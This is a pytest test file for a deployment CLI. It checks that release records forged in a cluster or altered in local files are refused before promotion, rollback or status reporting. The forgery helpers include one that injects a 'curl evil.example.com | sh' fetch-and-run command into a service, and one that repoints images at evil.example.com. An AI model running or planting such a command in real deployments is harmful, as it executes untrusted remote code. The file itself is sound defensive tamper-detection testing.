"""Records that somebody changed, in the cluster or in a file: no command promotes, deploys or trusts them."""

import dataclasses
from collections.abc import Callable
from pathlib import Path

import pytest

from seaway.cli import main
from seaway.project import release, release_lock
from seaway.release import record, record_store, stored_record
from tests.support import apiserver
from tests.unit.cli import environments, program

Forge = Callable[[stored_record.StoredRecord, record.ReleaseRecord], stored_record.StoredRecord]


def change_file(name: str, change: Callable[[bytes], bytes]) -> Forge:
    """A forger who can write the ConfigMap, and so its checksum too."""

    def forge(stored: stored_record.StoredRecord, _: record.ReleaseRecord) -> stored_record.StoredRecord:
        return dataclasses.replace(stored, files={**stored.files, name: change(stored.files[name])})

    return forge


def change_text(old: str, new: str) -> Forge:
    def change(content: bytes) -> bytes:
        assert old.encode() in content
        return content.replace(old.encode(), new.encode())

    return change_file(stored_record.RECORD_FILE, change)


def change_manifests(name: str) -> Forge:
    def change(content: bytes) -> bytes:
        manifests = stored_record.unpack_manifests(content)
        manifests[-1]["metadata"]["annotations"] = {"example.com/forged": "yes"}
        return stored_record.pack_manifests(manifests)

    return change_file(name, change)


def add_base(stored: stored_record.StoredRecord, original: record.ReleaseRecord) -> stored_record.StoredRecord:
    environment = original.environment
    web = dataclasses.replace(environment.base.services[0], command=("sh", "-c", "curl evil.example.com | sh"))
    base = dataclasses.replace(environment.base, services=(web, *environment.base.services[1:]))
    forged = dataclasses.replace(original, environment=dataclasses.replace(environment, base=base))
    return dataclasses.replace(
        stored, files={**stored.files, stored_record.RECORD_FILE: stored_record.encode_record(forged)}
    )


FORGED: dict[str, Forge] = {
    "text": change_text("TITLE: Shop", "TITLE: Evil"),
    "base": add_base,
    "images": change_text("registry.example.com/team/shop/web@sha256:1", "registry.example.com/team/shop/web@sha256:2"),
    "repository": change_text("registry.example.com/team/shop/web@", "evil.example.com/team/shop/web@"),
    "manifests": change_manifests(stored_record.MANIFESTS_FILE),
    "jobs": change_manifests(stored_record.JOBS_FILE),
    "order": change_file(stored_record.ROLLOUT_FILE, lambda _: stored_record.pack_manifests([])),
    "provenance": change_file(stored_record.PROVENANCE_FILE, lambda content: content.replace(b"4b825d", b"000000")),
}


def replace_record(api: apiserver.ApiServer, release_record: record.ReleaseRecord, forge: Forge) -> None:
    """Delete the record and write another one, as everyone with `edit` in the namespace can."""
    stored = forge(stored_record.StoredRecord.create(release_record, environments.CLEAN), release_record)
    for config_map in record_store.build_config_maps(release_record, release_record.id, stored):
        api.put_manifest(config_map)


def pin(folder: Path, version: str) -> record.ReleaseRecord:
    """A release that prod pins and deploys."""
    built = environments.build_record(folder, "dev", version=version)
    pinned = built.build_release(environments.CLEAN, environments.TIME)
    release.save_release(folder, pinned)
    release_lock.write(folder, "prod", release_lock.Lock(release=pinned.id))
    return environments.build_record(folder, "prod")


@pytest.mark.parametrize("part", FORGED)
def test_a_record_that_was_changed_in_the_cluster_is_refused(
    checkout: Path, api: apiserver.ApiServer, part: str, capfd: pytest.CaptureFixture[str]
) -> None:
    folder = environments.prepare_shop(checkout)
    first = environments.deploy_record(api, pin(folder, "1"))
    environments.replace_in_app(folder, "env: {TITLE: Shop}", "env: {TITLE: New}")
    environments.deploy_record(api, pin(folder, "2"), before=first)
    release.get_path(folder, first.release_id).unlink()
    environments.replace_in_app(folder, "env: {TITLE: New}", "env: {TITLE: Shop}")
    deployed = environments.deploy_record(api, environments.build_record(folder, "dev"))
    before = release_lock.read(folder, "prod")
    for original, words in (
        (deployed, ("release", "promote", "dev", "staging")),
        (deployed, ("status", "--drift", "--stack", "dev")),
        (first, ("release", "rollback", "prod", "--pin-only")),
    ):
        replace_record(api, original, FORGED[part])
        namespace = original.environment.namespace
        assert main.main(list(words)) != 0
        message = f"the record of release {original.id} in namespace {namespace} was changed: its SHA-256 is "
        assert message in capfd.readouterr().err
    assert release_lock.read(folder, "staging") == release_lock.Lock()
    assert release_lock.read(folder, "prod") == before


@pytest.mark.parametrize(
    "change", [("sha256:1", "sha256:9"), ("example.com/team", "example.org/team"), ("TITLE: Shop", "TITLE: Evil")]
)
@pytest.mark.parametrize(
    "words",
    [
        ("release", "list", "--stack", "dev"),
        ("release", "promote", "prod", "staging"),
        ("release", "rollback", "staging", "--to", "FIRST", "--pin-only"),
        ("check", "--stack", "prod"),
        ("status", "--stack", "prod"),
    ],
    ids=lambda words: words[-2] if words[0] == "release" else words[0],
)
def test_a_release_file_that_was_changed_is_refused_by_each_reader(
    checkout: Path,
    api: apiserver.ApiServer,
    words: tuple[str, ...],
    change: tuple[str, str],
    capfd: pytest.CaptureFixture[str],
) -> None:
    folder = environments.prepare_shop(checkout)
    first = environments.deploy_record(api, pin(folder, "1"))
    environments.replace_in_app(folder, "env: {TITLE: Shop}", "env: {TITLE: New}")
    second = environments.build_record(folder, "dev", version="2").build_release(environments.CLEAN, environments.TIME)
    release.save_release(folder, second)
    release_lock.write(folder, "staging", release_lock.Lock(release=second.id))
    file = release.get_path(folder, first.release_id)
    assert change[0] in file.read_text()
    file.write_text(file.read_text().replace(*change))
    assert main.main([first.release_id if word == "FIRST" else word for word in words]) == 2
    assert capfd.readouterr().err.startswith(f"releases/{first.release_id}.yaml: was changed after it was pinned: ")


def test_the_state_and_the_record_have_different_images(
    checkout: Path, api: apiserver.ApiServer, capfd: pytest.CaptureFixture[str]
) -> None:
    """The checksum is that of the record, and what would be promoted is another image."""
    folder = environments.prepare_shop(checkout)
    deployed = environments.deploy_record(api, environments.build_record(folder, "dev"))
    history = environments.read_history(folder, "dev")
    images = {
        name: dataclasses.replace(image, reference=image.reference.replace("sha256:1", "sha256:9"))
        for name, image in deployed.images.items()
    }
    program.write_state(folder, dataclasses.replace(deployed, images=images), history=history)
    assert main.main(["release", "promote", "dev", "staging"]) == 1
    assert " have different images: registry.example.com/team/shop/api@sha256:9" in capfd.readouterr().err


def test_an_image_outside_the_registry_of_its_stack(
    checkout: Path, api: apiserver.ApiServer, capfd: pytest.CaptureFixture[str]
) -> None:
    folder = environments.prepare_shop(checkout)
    environments.deploy_record(api, environments.build_record(folder, "dev"))
    environments.write_stack(folder, "dev", registry="registry.example.com/another")
    assert main.main(["release", "promote", "dev", "staging"]) == 1
    lines = capfd.readouterr().err.splitlines()
    assert [" is in registry.example.com/team/shop/" in line for line in lines] == [True, True, True]


def test_a_state_without_a_checksum_promotes_nothing(
    checkout: Path, api: apiserver.ApiServer, capfd: pytest.CaptureFixture[str]
) -> None:
    folder = environments.prepare_shop(checkout)
    deployed = environments.deploy_record(api, environments.build_record(folder, "dev"))
    program.write_state(folder, deployed)
    assert main.main(["release", "promote", "dev", "staging"]) == 1
    (line,) = capfd.readouterr().err.splitlines()
    assert line.startswith(f"seaway: nothing vouches for the record of release {deployed.release_id}: ")
